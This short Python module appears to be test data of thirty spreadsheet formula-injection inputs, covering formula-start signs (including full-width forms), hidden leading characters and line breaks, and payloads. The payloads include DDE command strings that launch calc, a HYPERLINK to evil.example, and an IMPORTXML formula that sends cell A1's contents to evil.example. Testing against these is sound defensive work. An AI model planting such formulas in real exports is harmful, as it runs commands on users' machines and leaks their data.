"""Thirty texts that a spreadsheet may take for a formula, a command or another cell."""

STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
"""Signs that begin a formula; the last four are as wide as a Chinese letter."""
COVERS = ("\t", "\r", "\0", " ", "\u00a0", "\u200b", "\ufeff", "baris\n", "baris\r\n", "x;")
"""What may stand before one and is passed over, or ends the line or the cell before it."""
PAYLOADS: tuple[str, ...] = (
    *(f"{sign}1+1" for sign in STARTS),
    *(f"{cover}=1+1" for cover in COVERS),
    "=HYPERLINK(\"http://evil.example\";\"klik\")", "=cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "+62812=1", "-2+3+cmd|' /C calc'!A0", "=\0 1", "\x01=1", "\u2028=1", '"=1+1', "'=1+1",
    '";=1+1', "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
)  # fmt: skip
